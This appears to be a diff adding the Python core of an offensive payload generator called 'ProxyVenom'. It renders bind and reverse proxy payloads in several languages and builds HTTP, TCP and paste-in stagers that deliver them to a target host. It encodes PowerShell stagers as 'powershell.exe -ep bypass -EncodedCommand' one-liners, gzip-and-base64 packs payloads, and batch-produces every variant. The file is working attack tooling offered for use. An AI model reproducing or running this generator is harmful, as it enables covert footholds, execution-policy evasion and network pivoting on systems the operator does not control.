@@ -0,0 +1,365 @@
+#! /usr/bin/env python3
+
+import os
+import re
+import json
+import gzip
+import time
+import base64
+import hashlib
+import threading
+
+class Template:
+
+    # Placeholders look like {{NAME}}
+    PLACEHOLDER = re.compile(r"{{([A-Z_]+)}}")
+
+    def __init__(self, path: str) -> None:
+        '''Read a template and find its placeholders once'''
+        self.path = path
+        self.mtime = os.stat(path).st_mtime_ns
+        f = open(path, "r")
+        text = f.read()
+        f.close()
+        # Literal text at even indexes, placeholder names at odd ones
+        self.parts = self.PLACEHOLDER.split(text)
+        self.names = set(self.parts[1::2])
+
+    def render(self, values: dict) -> str:
+        '''Fill every placeholder in one pass'''
+        missing = self.names - values.keys()
+        if missing:
+            name = os.path.basename(self.path)
+            raise ValueError(f"{name} needs {', '.join(sorted(missing))}")
+        parts = self.parts[:]
+        for i in range(1, len(parts), 2):
+            parts[i] = values[parts[i]]
+        return "".join(parts)
+
+class Registry:
+
+    # Template directories, relative to the ProxyVenom root
+    DIRECTORIES = [
+        os.path.join("proxies", "bind"),
+        os.path.join("proxies", "reverse"),
+        "clients",
+        os.path.join("stagers", "http"),
+        os.path.join("stagers", "tcp"),
+        os.path.join("stagers", "prompt")
+    ]
+    # Placeholders every template of a kind takes, the rest are capabilities
+    REQUIRED = {"LHOST", "LPORT", "CHOST", "CPORT", "RHOST", "RPORT", "SERVER_IP", "SERVER_PORT", "URI", "PAYLOAD_SIZE"}
+
+    def __init__(self, root: str, cache: str="") -> None:
+        '''Initialize the index of proxies, clients and stagers'''
+        self.root = root
+        self.cache = cache or os.path.join(root, ".registry.json")
+        self.entries = None # relative template path -> entry
+        self.lock = threading.Lock()
+
+    def index(self) -> dict:
+        '''Return every template entry, rescanning only files whose mtime changed'''
+        if self.entries is None:
+            with self.lock:
+                if self.entries is None:
+                    self.entries = self._load()
+        return self.entries
+
+    def _load(self) -> dict:
+        '''Read the cached index and bring it up to date'''
+        try:
+            f = open(self.cache, "r")
+            cached = json.loads(f.read())
+            f.close()
+        except:
+            cached = {}
+        entries = {}
+        changed = False
+        for directory in self.DIRECTORIES:
+            try:
+                files = list(os.scandir(os.path.join(self.root, directory)))
+            except OSError:
+                continue
+            for item in files:
+                if not item.is_file():
+                    continue
+                path = os.path.join(directory, item.name)
+                mtime = item.stat().st_mtime_ns
+                entry = cached.get(path)
+                if not entry or entry["mtime"] != mtime:
+                    entry = self._entry(path, mtime)
+                    changed = True
+                if entry:
+                    entries[path] = entry
+        if changed or entries.keys() != cached.keys():
+            self._save(entries)
+        return entries
+
+    def _entry(self, path: str, mtime: int) -> dict:
+        '''Describe one template from its path and placeholders'''
+        directory, name = os.path.split(path)
+        name, dot, lang = name.rpartition(".")
+        if not dot:
+            return None
+        family, kind = os.path.split(directory)
+        if family == "proxies":
+            entry = {"kind": "proxy", "type": kind}
+        elif family == "stagers":
+            entry = {"kind": "stager", "delivery": kind, "name": name}
+        else:
+            entry = {"kind": "client"}
+        names = Template(os.path.join(self.root, path)).names
+        entry.update({
+            "lang": lang,
+            "mtime": mtime,
+            "placeholders": sorted(names),
+            "capabilities": sorted(n.lower() for n in names - self.REQUIRED)
+        })
+        return entry
+
+    def _save(self, entries: dict) -> None:
+        '''Write the index, a read-only install just rescans next time'''
+        try:
+            temp = f"{self.cache}.{os.getpid()}"
+            f = open(temp, "w")
+            f.write(json.dumps(entries, indent=2, sort_keys=True))
+            f.close()
+            os.replace(temp, self.cache)
+        except OSError:
+            pass
+
+    def find(self, **fields) -> list:
+        '''Return the entries whose fields all match'''
+        return [e for e in self.index().values() if all(e.get(k) == v for k, v in fields.items())]
+
+    def langs(self, type: str) -> list:
+        '''Return the languages a proxy type is written in'''
+        return sorted(e["lang"] for e in self.find(kind="proxy", type=type))
+
+    def stagers(self, delivery: str, lang: str) -> list:
+        '''Return the names of the stagers for a delivery method and language'''
+        return sorted(e["name"] for e in self.find(kind="stager", delivery=delivery, lang=lang))
+
+    def placeholders(self, path: str) -> set:
+        '''Return the placeholders a template needs, or None if it is not indexed'''
+        entry = self.index().get(os.path.relpath(path, self.root))
+        # A template edited since it was indexed is checked when it is read
+        if entry and entry["mtime"] == os.stat(path).st_mtime_ns:
+            return set(entry["placeholders"])
+        return None
+
+class Payload:
+
+    def __init__(self, kind: str, name: str, code: str) -> None:
+        '''A generated proxy, client, stager or pasted proxy'''
+        self.kind = kind # proxy, client, stager or paste
+        self.name = name # file name it is written to
+        self.code = code
+
+    def write(self, directory: str) -> dict:
+        '''Write the payload into a directory and return its manifest entry'''
+        path = os.path.join(directory, self.name)
+        data = self.code.encode("utf-8")
+        f = open(path, "wb")
+        f.write(data)
+        f.close()
+        return {
+            "kind": self.kind,
+            "path": path,
+            "bytes": len(data),
+            "sha256": hashlib.sha256(data).hexdigest()
+        }
+
+class Generator:
+
+    TYPES = ["bind", "reverse"]
+    LANGS = ["pl", "py", "rb", "php", "ps1", "js"]
+    DELIVERIES = ["file", "http", "tcp", "prompt"]
+    # Option defaults, the command line takes its defaults from here too
+    DEFAULTS = {
+        "bind": {
+            "lhost": "0.0.0.0",
+            "workers": 1,
+            "connect_timeout": 10,
+            "stats": None,
+            "stats_interval": 10
+        },
+        "reverse": {
+            "lhost": "127.0.0.1",
+            "lport": 3128,
+            "cport": 4321,
+            "pool_size": 0,
+            "pool_idle": 10,
+            "compress": False,
+            "streams": 1,
+            "connect_timeout": 10,
+            "stats": None,
+            "stats_interval": 10,
+            "heartbeat": 10,
+            "reconnect": 300,
+            "rate": 0,
+            "session_rate": 0,
+            "control": 0,
+            "socks": False,
+            "forwards": []
+        }
+    }
+    # Options written into templates as Python literals
+    LITERALS = {"stats", "forwards"}
+
+    def __init__(self, root: str="") -> None:
+        '''Initialize payload generator'''
+        self.root = root or os.path.dirname(os.path.abspath(__file__))
+        self.registry = Registry(self.root)
+        self.templates = {} # template path -> Template
+        self.lock = threading.Lock()
+
+    def template(self, path: str) -> Template:
+        '''Return a parsed template, reading it again only after it changes'''
+        mtime = os.stat(path).st_mtime_ns
+        template = self.templates.get(path)
+        if not template or template.mtime != mtime:
+            template = Template(path)
+            with self.lock:
+                self.templates[path] = template
+        return template
+
+    def render(self, path: str, options: dict) -> str:
+        '''Return a template filled in with option values'''
+        values = {}
+        for name, value in options.items():
+            if name in self.LITERALS:
+                values[name.upper()] = repr(value)
+            elif value is not None and value != "":
+                values[name.upper()] = str(value)
+        # Indexed templates are checked before they are read
+        needs = self.registry.placeholders(path)
+        if needs and needs - values.keys():
+            missing = ", ".join(sorted(needs - values.keys()))
+            raise ValueError(f"{os.path.basename(path)} needs {missing}")
+        return self.template(path).render(values)
+
+    def proxy(self, type: str, lang: str, **options) -> Payload:
+        '''Return a bind or reverse proxy'''
+        if type not in self.TYPES or lang not in self.registry.langs(type):
+            raise ValueError(f"no {type} proxy in {lang}")
+        path = os.path.join(self.root, "proxies", type, f"{type}.{lang}")
+        code = self.render(path, self.settings(type, options))
+        return Payload("proxy", f"{type}.{lang}", code)
+
+    def client(self, **options) -> Payload:
+        '''Return the client for a reverse proxy'''
+        path = os.path.join(self.root, "clients", "client.py")
+        code = self.render(path, self.settings("reverse", options))
+        return Payload("client", "client.py", code)
+
+    def settings(self, type: str, options: dict) -> dict:
+        '''Return options over the defaults of a proxy type, None meaning the default'''
+        settings = dict(self.DEFAULTS[type])
+        settings.update((k, v) for k, v in options.items() if v is not None)
+        return settings
+
+    def stagers(self, delivery: str, lang: str) -> list:
+        '''Return the names of the stagers for a delivery method and language'''
+        return self.registry.stagers(delivery, lang)
+
+    def stager(self, delivery: str, stager: str, lang: str, **options) -> Payload:
+        '''Return a stager one-liner, encoded for PowerShell'''
+        if stager not in self.stagers(delivery, lang):
+            raise ValueError(f"no {delivery} stager {stager} in {lang}")
+        path = os.path.join(self.root, "stagers", delivery, f"{stager}.{lang}")
+        code = self.render(path, options)
+        if lang == "ps1":
+            code = self.powershell(code)
+        return Payload("stager", "stager.txt", code)
+
+    def powershell(self, code: str) -> str:
+        '''Encode a stager for powershell execution'''
+        enc = code.encode("utf-16-le")
+        if enc.startswith(b"\xff\xfe"):
+            enc = enc[2:]
+        encoded = base64.b64encode(enc).decode("utf-8")
+        return f"powershell.exe -ep bypass -EncodedCommand {encoded}"
+
+    def build(self, type: str, lang: str, delivery: str="file", stager: str=None, outfile: str="", **options) -> list:
+        '''Return every payload the command line makes for one proxy'''
+        proxy = self.proxy(type, lang, **options)
+        if outfile:
+            proxy.name = os.path.basename(outfile)
+        payloads = [proxy]
+        if delivery == "file":
+            if lang == "php":
+                # These tags inhibit stagers, so only add them if its a file
+                proxy.code = "<?php\n\n" + proxy.code + "\n\n?>"
+        elif delivery == "http":
+            payloads.append(self.stager(delivery, stager, lang, uri=proxy.name, **options))
+        elif delivery == "tcp":
+            # Stagers count bytes, not characters
+            size = len(proxy.code.encode("utf-8"))
+            payloads.append(self.stager(delivery, stager, lang, payload_size=size, **options))
+        elif delivery == "prompt":
+            # A fixed gzip time keeps the same payload byte for byte
+            packed = gzip.compress(proxy.code.encode("utf-8"), mtime=0)
+            paste = base64.b64encode(packed).decode("utf-8")
+            payloads = [
+                self.stager(delivery, stager, lang, **options),
+                Payload("paste", "paste.txt", paste)
+            ]
+        else:
+            raise ValueError(f"no {delivery} delivery")
+        if type == "reverse":
+            payloads.append(self.client(**options))
+        return payloads
+
+    def batch(self, outdir: str, types: list=None, langs: list=None, deliveries: list=None, targets: list=None, jobs: int=None, **options) -> dict:
+        '''Write every type, language, delivery, stager and target combination to outdir'''
+        variants = []
+        for type in types or self.TYPES:
+            for lang in langs or self.LANGS:
+                for delivery in deliveries or ["file"]:
+                    for stager in self.stagers(delivery, lang) or [None]:
+                        for index, target in enumerate(targets or [{}]):
+                            variants.append((type, lang, delivery, stager, index, target))
+        # Imported here so the command line does not pay for it on every run
+        import concurrent.futures
+        os.makedirs(outdir, exist_ok=True)
+        start = time.perf_counter()
+        with concurrent.futures.ThreadPoolExecutor(jobs) as pool:
+            entries = list(pool.map(lambda v: self._variant(outdir, options, *v), variants))
+        manifest = {
+            "time": round(time.time(), 3),
+            "seconds": round(time.perf_counter() - start, 3),
+            "variants": entries
+        }
+        f = open(os.path.join(outdir, "manifest.json"), "w")
+        f.write(json.dumps(manifest, indent=2))
+        f.close()
+        return manifest
+
+    def _variant(self, outdir: str, options: dict, type: str, lang: str, delivery: str, stager: str, index: int, target: dict) -> dict:
+        '''Write one batch combination into its own directory'''
+        target = dict(target)
+        name = str(target.pop("name", f"target{index}"))
+        parts = [type, lang, delivery] + ([stager] if stager else []) + [name]
+        # Stager names such as HTTP::Tiny are not safe in paths
+        ident = re.sub(r"[^A-Za-z0-9._-]", "_", "-".join(parts))
+        entry = {
+            "id": ident,
+            "type": type,
+            "lang": lang,
+            "delivery": delivery,
+            "stager": stager,
+            "target": name,
+            "options": {**options, **target}
+        }
+        try:
+            payloads = self.build(type, lang, delivery, stager, **entry["options"])
+            directory = os.path.join(outdir, ident)
+            os.makedirs(directory, exist_ok=True)
+            entry["files"] = [p.write(directory) for p in payloads]
+            for item in entry["files"]:
+                # Paths stay valid when the directory is moved
+                item["path"] = os.path.relpath(item["path"], outdir)
+        except (ValueError, OSError) as e:
+            entry["error"] = str(e)
+        return entry